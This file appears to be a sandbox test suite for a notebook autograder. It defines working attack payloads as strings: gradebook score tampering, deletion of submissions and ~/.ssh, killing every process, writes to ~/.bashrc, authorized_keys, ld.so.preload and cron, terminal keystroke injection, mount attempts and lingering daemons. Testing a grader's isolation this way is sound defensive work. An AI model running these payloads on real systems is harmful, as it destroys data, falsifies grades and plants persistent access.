"""Change persistent state: files, scores, others' work, processes, the TA's machine."""

from .kit import ALL, SANDBOXED, Attack, Link, code, notebook, right, runs

_WRITE = """
import os, pathlib
def write(path, text="# attacked"):
    try:
        path = pathlib.Path(path).expanduser()
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    except OSError as error:
        print(error)
"""


def _writes(name: str, tries: str, *paths: str) -> Attack:
    """An attack that adds to files; of those in the course the path is from its own folder."""
    return runs(name, tries, f"{SANDBOXED}{_WRITE}for path in {list(paths)}: write(path)")


_GRADEBOOK = """
import glob, sqlite3
for path in ["../../../gradebook.db", *glob.glob("/**/gradebook.db")]:
    try:
        with sqlite3.connect(path) as book:
            book.execute("update grade set auto_score = 0, manual_score = 99")
            book.execute("update base_cell set name = name || 'x'")
    except sqlite3.Error as error:
        print(error)
"""
_DELETE = """
import os, shutil
for path in ("../../0-before", "../../../submitted/0-before", "../../../feedback",
             "../../../source", os.path.expanduser("~/.ssh")):
    shutil.rmtree(path, ignore_errors=True)
"""
_KILL = """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)
"""
_SYSCTL = """
import os
for name in ("kernel/core_pattern", "kernel/hostname", "vm/drop_caches", "fs/file-max",
             "kernel/randomize_va_space", "kernel/sysrq", "vm/overcommit_memory"):
    try:
        os.close(os.open(f"/proc/sys/{name}", os.O_WRONLY))
        print("SANDBOX", "BREACHED", name)
    except OSError as error:
        print(error)
"""
_KEYS = """
import ctypes
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):
    if libc.syscall(250, 10, ctypes.c_int(ring), b"user", b"attacked-too", 0) > 0:
        print("SANDBOX", "BREACHED")
    libc.syscall(248, b"user", b"attacked-too", b"left", 4, ctypes.c_int(ring))
"""
_PIPES = """
import os
for fd in (0, 1, 2):
    try:
        again = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        if b"attacked" in os.read(again, 10**6):
            print("SANDBOX", "BREACHED")
    except OSError as error:
        print(error)
    try:
        os.write(fd, b"attacked")
    except OSError as error:
        print(error)
"""
_FULL_PIPE = """
import os
for fd in (1, 2):
    try:
        os.set_blocking(fd, False)
        for _ in range(10_000):
            os.write(fd, bytes(4096))
    except OSError as error:
        print(error)
    os.set_blocking(fd, True)
"""
_IPC = """
import ctypes
libc = ctypes.CDLL(None)
if libc.shmget(48765, 4096, 0o600) >= 0 or libc.msgget(48765, 0o600) >= 0:
    print("SANDBOX", "BREACHED")
libc.shmget(48765, 4096, 0o1600), libc.msgget(48765, 0o1600)
rt = ctypes.CDLL(None)
if rt.mq_open(b"/attacked", 0) >= 0:
    print("SANDBOX", "BREACHED")
rt.mq_open(b"/attacked", 0o102, 0o600, None)
"""
_MOUNT = """
import ctypes, os
libc = ctypes.CDLL(None)
for what in ((b"none", b"/", None, 32 | 4096, None), (b"none", b"/tmp", b"tmpfs", 0, None),
             (b"proc", b"/proc", b"proc", 0, None), (b"/", b"/tmp", None, 4096, None)):
    if libc.mount(*what) == 0:
        print("SANDBOX", "BREACHED")
if libc.unshare(0x20000) == 0 or libc.sethostname(b"attacked", 8) == 0:
    print("SANDBOX", "BREACHED")
"""
_CORE = """
import resource
if resource.getrlimit(resource.RLIMIT_CORE)[0] != 1:  # 1: the one limit that a handler heeds
    print("SANDBOX", "BREACHED")
"""
_TERMINAL = """
import fcntl, os, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/proc/self/fd/1"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        os.write(terminal, b"\\x1b]0;attacked\\x07")
        for letter in b"echo attacked >> ~/.bashrc\\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        print("SANDBOX", "BREACHED")
    except OSError as error:
        print(error)
"""
_HANDLES = """
import os, socket
channel = socket.socket(fileno=os.dup(3))
for _ in range(200):
    socket.send_fds(channel, [b"x"], [0, 1, 2])
channel.shutdown(socket.SHUT_RDWR)
os.closerange(0, 256)
"""
_LIBRARIES = """
import numpy, site, sysconfig
for folder in {*site.getsitepackages(), sysconfig.get_path("stdlib"), *numpy.__path__, "/runner"}:
    write(folder + "/attacked.pth", "import attacked")
    write(folder + "/sitecustomize.py")
for path in ("/etc/ld.so.preload", "/usr/bin/attacked", "/etc/cron.d/attacked"):
    write(path)
"""
_DAEMON = """
import os, subprocess, sys
later = "import time; time.sleep(1); open('../../../attacked-later', 'w'); time.sleep(300)"
subprocess.Popen([sys.executable or "python3", "-c", later], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(256):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            os.nice(19), __import__("time").sleep(300)
    os._exit(0)
"""

_LOG = """
import socket
here, there = socket.socketpair()
try:
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
except PermissionError:
    pass
for path in ("/dev/log", "/run/systemd/journal/socket"):
    try:
        here.sendto(b"attacked", path)
        print("SANDBOX", "BREACHED")
    except PermissionError:
        pass
    except OSError:
        print("SANDBOX", "BREACHED")
"""
_DEVICES = """
import os
for name in ("full", "zero", "urandom"):
    path = f"/dev/{name}"
    before = os.stat(path)
    for change in (
        lambda: os.chmod(path, before.st_mode ^ 0o1000),
        lambda: os.utime(path, (1, 1)),
        lambda: os.chown(path, 1234, 1234),
    ):
        try:
            change()
        except OSError:
            pass
    if os.stat(path)[:9] != before[:9]:
        print("SANDBOX", "BREACHED")
"""

ATTACKS = (
    runs("scores", "Writes scores into the gradebook.", _GRADEBOOK),
    _writes(
        "neighbour",
        "Spoils what another handed in, and its graded copy.",
        "../../../submitted/0-before/tiny/tiny.ipynb",
        "../../0-before/tiny/tiny.ipynb",
    ),
    _writes("hidden-tests", "Changes the hidden tests.", "../../../source/tiny/tiny.ipynb"),
    _writes(
        "course",
        "Adds to the course: settings, a hook, a submission in another's name.",
        "../../../nbgrader_config.py",
        "../../../.git/hooks/post-commit",
        "../../../submitted/attacked/tiny/tiny.ipynb",
        "../../../.course_seed",
    ),
    _writes(
        "startup",
        "Adds to what the TA's programs run when they start.",
        "~/.bashrc",
        "~/.ssh/authorized_keys",
        "~/.ipython/profile_default/startup/0.py",
        "~/.config/matplotlib/matplotlibrc",
        "~/.jupyter/jupyter_config.py",
        "~/.config/systemd/user/attacked.service",
    ),
    runs(
        "libraries",
        "Changes libraries that all submissions share.",
        SANDBOXED + _WRITE + _LIBRARIES,
    ),
    runs("delete", "Deletes others' work and the course.", SANDBOXED + _DELETE),
    runs(
        "kill",
        "Ends the grader and every other process.",
        SANDBOXED + _KILL,
        flagged="other processes",
    ),
    runs(
        "device-modes",
        "Changes the mode and the times of the machine's devices.",
        _DEVICES,
        not_in_stock="the machine that runs the benchmark needs them",
    ),
    runs(
        "log",
        "Writes into the machine's log by a pair of sockets.",
        _LOG,
        not_in_stock="the machine that runs the benchmark may have none",
    ),
    runs("sysctl", "Opens the kernel's settings for writing.", _SYSCTL, flagged="processes"),
    runs(
        "mount",
        "Mounts, and makes what is read-only writable.",
        SANDBOXED + _MOUNT,
        flagged="memory",
    ),
    runs(
        "core",
        "Crashes into the hands of the machine's handler of crashes.",
        _CORE,
        not_in_stock="what it does is up to the machine",
    ),
    runs("terminal", "Types into the TA's terminal.", SANDBOXED + _TERMINAL),
    runs("keyring", "Leaves a key for the next.", _KEYS, twice=True, flagged="memory"),
    runs("pipes", "Leaves words in the pipes for the next.", _PIPES, twice=True),
    runs("full-pipe", "Fills the pipes, so that the next has to wait.", _FULL_PIPE),
    runs("shared-memory", "Leaves shared memory and queues.", _IPC, twice=True),
    runs("handles", "Hands descriptors to the grader, and hangs up.", _HANDLES),
    runs("daemon", "Leaves processes that write later.", _DAEMON, flagged="other processes"),
    runs(
        "folder",
        "Writes beside its own graded notebook.",
        _WRITE + "write('timestamp.txt')\n"
        "write('../attacked.txt')\nwrite('tiny_files/attacked.html')",
    ),
    Attack(
        "links-to-write",
        "Links beside the notebook are to be written through.",
        right(code(_WRITE + "for name in os.listdir(): write(name, 'attacked')")),
        files={
            "gradebook.db": Link("../../../gradebook.db"),
            "out.txt": Link("../../../attacked.txt"),
            "x/y": Link("../../../../source/tiny/tiny.ipynb"),
        },
        deserves=ALL,
        flagged="left out",
    ),
    Attack(
        "late",
        "The file of the time of handing in says that it was long ago.",
        right(),
        files={"timestamp.txt": b"1970-01-01 00:00:00 UTC"},
        deserves=ALL,
    ),
    Attack(
        "patched-runner",
        "The runner's modules, patched here, are to be patched for the next.",
        notebook(
            code("""
                import sys, numpy, builtins, IPython
                if hasattr(numpy, "attacked"):
                    print("SANDBOX", "BREACHED")
                numpy.attacked = True
                numpy.asarray = None
                builtins.sum = None
                sys.modules["json"].dumps = None
            """)
        ),
        twice=True,
        flagged="Python's own functions",
    ),
)
